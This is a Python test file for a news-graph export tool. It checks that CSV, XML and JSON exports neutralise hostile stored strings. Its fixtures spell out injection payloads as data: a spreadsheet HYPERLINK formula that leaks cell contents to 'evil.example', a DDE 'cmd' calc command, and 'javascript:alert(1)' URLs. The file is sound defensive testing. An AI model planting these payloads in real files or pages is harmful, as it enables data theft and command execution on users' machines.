"""Exports of hostile stored strings (issue 26, item 5): CSV cells never run as spreadsheet
formulas, and no XML (or JSON meant for HTML) carries a character XML 1.0 forbids."""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET

import networkx as nx
import pytest
from fusion_support import write_story

import newsgraph
from newsgraph.output.export import export
from newsgraph.output.safe import csv_cell, web_url, xml_text
from newsgraph.store import open_store
from newsgraph.output.annotate.brat import ann_lines

NAME = "John\x01Smith\ufffe\x1b"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1"]  # one per article of the story
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@pytest.fixture(scope="module")
def store():
    s = open_store(":memory:")
    write_story(s)
    s.con.execute("UPDATE actors SET name = ? WHERE actor_id = 'act:valdivieso-rodrigo'", [NAME])
    s.con.execute("UPDATE claims SET claimant = ?", [NAME])
    ids = [r[0] for r in s.con.execute("SELECT id FROM articles ORDER BY id").fetchall()]
    for article_id, formula in zip(ids, FORMULAS):
        s.con.execute("UPDATE articles SET title = ?, source = ?, url = 'javascript:alert(1)' WHERE id = ?",
                      [formula, formula, article_id])
    yield s
    s.close()


def test_csv_cells_never_start_a_formula(store, tmp_path):
    out = export(store, "csv", tmp_path / "csv")
    with (out / "articles.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    titles = {r["title"] for r in rows}
    assert {"'" + f for f in FORMULAS} <= titles  # shown as the text it is, one quote added
    for name in ("articles", "claims", "actors", "threads"):
        with (out / f"{name}.csv").open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    import pyarrow as pa
    import pyarrow.csv as pacsv

    claims = pacsv.read_csv(out / "claims.csv")  # numbers stay numbers
    assert pa.types.is_integer(claims.schema.field("start_char").type) and claims.num_rows == 8


def test_csv_cell_rule():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@x", "a=b", "", "1-2")] == ["'=1", "'+1", "'-1", "'@x", "a=b",
                                                                                 "", "1-2"]


@pytest.mark.parametrize("fmt, read", [("gexf", nx.read_gexf), ("graphml", nx.read_graphml)])
def test_a_control_character_in_a_name_still_gives_valid_xml(store, tmp_path, fmt, read):
    out = export(store, fmt, tmp_path / f"net.{fmt}")
    ET.parse(out)  # strict XML 1.0 parser: raised "not well-formed" before
    graph = read(out)
    labels = {d.get("label") for _, d in graph.nodes(data=True)}
    assert "John\ufffdSmith\ufffd\ufffd" in labels


@pytest.mark.parametrize("fmt", ["claimreview", "ftm", "timelinejs", "plover"])
def test_json_documents_hold_only_xml_text_and_embed_in_html(store, tmp_path, fmt):
    text = export(store, fmt, tmp_path / f"out.{fmt}.json").read_text("utf-8")
    assert not NOT_XML.search(text) and "<" not in text and "&" not in text
    docs = [json.loads(line) for line in text.splitlines()] if fmt == "ftm" else [json.loads(text)]
    assert docs
    if fmt == "claimreview":
        assert "javascript:" not in text and NAME not in text and "John\ufffdSmith" in text


@pytest.mark.model
def test_brat_lines_stay_three_fields_of_clean_text():
    analyzed = newsgraph.annotate('"The talks\tresumed\x01 in Geneva,\r the\x0b deal holds," the minister said on'
                                  " Monday.", date="2024-10-15")
    lines = ann_lines(analyzed.records)
    assert any(line.startswith("T") for line in lines)
    for line in lines:
        assert not NOT_XML.search(line) and "\r" not in line
        assert line.count("\t") == (2 if line.startswith("T") else 1), line


def test_the_shared_rules():
    assert xml_text("a\x00b\ufffec\td") == "a\ufffdb\ufffdc\td" and xml_text(None) == ""
    assert web_url(" javascript:alert(1)") is None and web_url("data:text/html,x") is None
    assert web_url("//evil.example/") is None and web_url("https://example.org/a") == "https://example.org/a"
